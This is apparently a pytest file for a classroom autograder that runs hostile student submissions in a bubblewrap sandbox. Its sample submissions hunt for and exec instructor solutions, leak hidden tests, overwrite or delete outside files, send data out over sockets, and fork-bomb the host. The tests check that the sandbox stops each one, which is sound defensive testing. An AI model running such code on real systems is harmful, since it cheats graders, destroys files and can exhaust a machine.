"""Hostile submissions: ``toolkit grade`` runs each in a bubblewrap sandbox (toolkit.teaching.sandbox).

Each one is a bridge_test answer that tries to cheat or to do harm: find the masters and run
their solution, read the hidden tests (and raise them as its feedback), write and delete outside
its folder, reach the network, fork without end. Graded together in parallel, each must score 0
on the question it answers and leave the instructor's files, the host's ``/tmp`` and the host's
processes as they were; graded without the sandbox, the first one finds the master and scores full
marks (the control: the sandbox is what stops it). Where bubblewrap cannot run, grading refuses.
"""

from __future__ import annotations

import hashlib
import socket
import subprocess
import threading
from pathlib import Path

import pytest
from assignment_variants import Variant
from test_assignments import _solved, _with_variant

from toolkit.teaching import classroom, grading, sandbox

ROOT = Path(__file__).resolve().parent.parent
MASTER = grading.master("bridge_test")
MARK = Path("/tmp/toolkit-grading-sandbox-was-escaped")  # on the host: a hostile write must not land here

HOSTILE = {
    "finds_the_masters": """
def bridge_test(checker, n_attempts, sigma, rng):
    import glob, json, os
    import toolkit
    if "_solution" in globals():
        return _solution(checker, n_attempts, sigma, rng)
    roots = [os.path.dirname(os.path.dirname(toolkit.__file__)), "{root}", "/work", "/root", "/home", "/"]
    for root in roots:
        for path in glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True):
            try:
                cells = json.load(open(path))["cells"]
            except Exception:
                continue
            for cell in cells:
                source = "".join(cell["source"])
                if "# BEGIN SOLUTION" in source and "def bridge_test(" in source:
                    exec(source.replace("def bridge_test", "def _solution"), globals())
                    return _solution(checker, n_attempts, sigma, rng)
    raise RuntimeError("no master found")
""",
    "reads_the_hidden_tests": """
def bridge_test(checker, n_attempts, sigma, rng):
    import glob
    found = [open(p).read() for p in glob.glob("/**/tests/q1.py", recursive=True)]
    raise RuntimeError("".join(found)[:3000] or "no tests found")
""",
    "writes_outside_its_folder": """
def bridge_test(checker, n_attempts, sigma, rng):
    import os
    import toolkit
    targets = ["{mark}", os.path.join(os.path.dirname(toolkit.__file__), "pwned.py"), "{master}"]
    for target in targets:
        for action in (lambda: open(target, "w").write("pwned"), lambda: os.remove(target)):
            try:
                action()
            except OSError:
                pass
    raise RuntimeError("wrote what it could")
""",
    "opens_a_network_connection": """
def bridge_test(checker, n_attempts, sigma, rng):
    import socket
    for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
        try:
            socket.create_connection((host, port), timeout=3).sendall(b"exfiltrated")
        except OSError:
            pass
    raise RuntimeError("no answer")
""",
    "forks_without_end": """
def bridge_test(checker, n_attempts, sigma, rng):
    import os
    while True:
        os.fork()
""",
}


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _sandbox_processes() -> list[str]:
    """Processes on the host run by a sandbox's uid."""
    lines = subprocess.run(["ps", "-eo", "uid=,pid=,comm="], capture_output=True, text=True).stdout.splitlines()
    first, last = sandbox.FIRST_UID, sandbox.FIRST_UID + sandbox.UIDS
    return [line for line in lines if first <= int(line.split()[0]) < last]


@pytest.mark.slow
def test_hostile_submissions_score_nothing_and_harm_nothing(tmp_path):
    assert sandbox.unavailable() is None, f"the sandbox must run where the tests run: {sandbox.unavailable()}"
    grading.build("bridge_test")
    listener = socket.create_server(("127.0.0.1", 0))  # a host service a submission tries to reach
    connections: list = []
    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()
    fill = {"root": ROOT, "mark": MARK, "master": MASTER, "port": listener.getsockname()[1]}
    notebooks = {
        label: _with_variant(
            Variant("bridge_test", frozenset({"q1"}), code.format(**fill), label), tmp_path / f"{label}.ipynb"
        )
        for label, code in HOSTILE.items()
    }
    before = {path: _digest(path) for path in (MASTER, _solved("bridge_test"))}
    results = classroom.grade_all(list(notebooks.values()), timeout=120, workers=len(notebooks), progress=False)
    for label, notebook in notebooks.items():
        result = results[notebook]
        q1 = {q["name"]: q for q in result["questions"]}.get("q1", {"score": 0.0, "feedback": ""})
        assert q1["score"] == 0, f"{label}: {grading.report(result)}"
        leaked = [line for line in grading._secrets(grading.autograder("bridge_test"), "q1") if line in str(result)]
        assert not leaked, f"{label}: the result quotes a hidden test: {leaked[:2]}"
    assert {path: _digest(path) for path in before} == before, "a submission changed the instructor's files"
    assert not MARK.exists() and not (ROOT / "toolkit" / "pwned.py").exists(), "a submission wrote outside its folder"
    assert not connections, "a submission reached a service on the host"
    assert not _sandbox_processes(), f"processes outlived their sandbox: {_sandbox_processes()}"
    unisolated = grading.grade(notebooks["finds_the_masters"], timeout=240, isolate=False)  # the control
    assert unisolated["score"] == unisolated["max_score"], "without the sandbox the master is within reach"


def test_grading_refuses_where_it_cannot_isolate(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox, "unavailable", lambda: "bwrap is not installed")
    notebook = tmp_path / "bridge_test.ipynb"
    notebook.write_text("{}")
    with pytest.raises(RuntimeError, match="cannot isolate the submissions: bwrap is not installed"):
        classroom.grade_all([notebook])
    with pytest.raises(RuntimeError, match="cannot isolate"):
        grading.grade(notebook)


def test_the_sandbox_sees_the_toolkit_but_not_the_repository():
    if why := sandbox.unavailable():
        pytest.fail(f"bubblewrap must run where the tests run (make sandbox): {why}")
    probe = "import os, toolkit; print(toolkit.__file__); print(os.path.exists({root!r})); print(os.getuid())"
    done = subprocess.run(
        sandbox.command(["python3", "-c", probe.format(root=str(ROOT / "tutorials"))], {}, {}, cpu_s=60),
        capture_output=True,
        text=True,
    )
    lines = done.stdout.split()
    assert lines[:2] == [f"{sandbox.LIBRARY}/toolkit/__init__.py", "False"], done.stderr
    assert sandbox.FIRST_UID <= int(lines[2]) < sandbox.FIRST_UID + sandbox.UIDS
